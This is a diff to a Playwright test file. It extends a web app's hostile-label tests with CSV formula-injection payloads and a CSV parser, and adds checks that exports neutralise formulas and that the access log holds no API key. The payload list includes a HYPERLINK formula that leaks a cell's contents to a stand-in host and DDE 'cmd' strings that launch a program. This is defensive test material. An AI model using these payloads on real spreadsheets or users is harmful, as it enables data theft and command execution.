@@ -4,7 +4,7 @@
 // from the network are text, never markup or script; the key stays in memory.
 import { test, expect, Page } from '@playwright/test';
 import { readFileSync } from 'node:fs';
-import { Emulator } from '../support/emulator';
+import { Emulator, keyTag } from '../support/emulator';
 import { PacerPage } from '../support/pacer-page';
 import { storedText } from '../support/storage';
 
@@ -12,15 +12,41 @@ const LIMITER = ['--limiter', 'fixed-window', '--limit', '8', '--latency-ms', '1
 
 /** The emulator's `--xss-labels` strings (emulator/src/faults.rs), in order. */
 const XSS_LABELS = [
+  '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
   '<script>alert(1)</script>',
   '<img src=x onerror=alert(1)>',
+  "+1+cmd|' /C calc'!A0",
   '"><svg onload=alert(1)>',
+  "-2+3+cmd|' /C calc'!A0",
   'javascript:alert(1)',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   "' onmouseover='alert(1)' x='",
+  '\t=1+1',
   '</td></tr></table><iframe src=javascript:alert(1)>',
+  '\r=1+1',
   '&lt;script&gt;alert(1)&lt;/script&gt;',
   "{{constructor.constructor('alert(1)')()}}",
 ];
+
+/** The cells of a CSV text (RFC 4180: quoted cells may hold commas, quotes, line breaks). */
+function csvCells(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') { row.push(cell); cell = ''; }
+    else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; }
+    else cell += c;
+  }
+  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
+  return rows;
+}
 
 let plain: Emulator;
 let hostile: Emulator;
@@ -210,6 +236,14 @@ test('hostile labels are shown as text: no dialog, no element or handler from th
   // was even tried.
   expect(await w.violations()).toEqual([]);
   expect(w.pageErrors).toEqual([]);
+
+  // The CSV export: no cell a spreadsheet would take for a formula; the
+  // formula labels are there, neutralised by a leading '.
+  const [download] = await Promise.all([page.waitForEvent('download'), pacer.byId('export-csv').click()]);
+  const cells = csvCells(readFileSync((await download.path())!, 'utf8')).flat();
+  expect(cells.length).toBeGreaterThan(12 * 8);
+  expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+  expect(cells.some((c) => c.startsWith(`'${XSS_LABELS[0]}`))).toBe(true);
 });
 
 test('the key never reaches the page URL, the exports, the console or storage', async ({ page }) => {
@@ -225,7 +259,10 @@ test('the key never reaches the page URL, the exports, the console or storage', 
   // The typed key is the one that was sent.
   const sent = plain.log().slice(before);
   expect(sent).toHaveLength(12);
-  expect(sent.every((l) => l.key === KEY)).toBe(true);
+  expect(sent.every((l) => l.key === keyTag(KEY))).toBe(true);
+  // The access log holds no key (a tag of it), and every request was a POST.
+  expect(readFileSync(plain.logPath, 'utf8')).not.toContain(KEY);
+  expect(sent.every((l) => l.method === 'POST')).toBe(true);
 
   // The page URL, now and at every navigation.
   expect(page.url()).not.toContain(KEY);
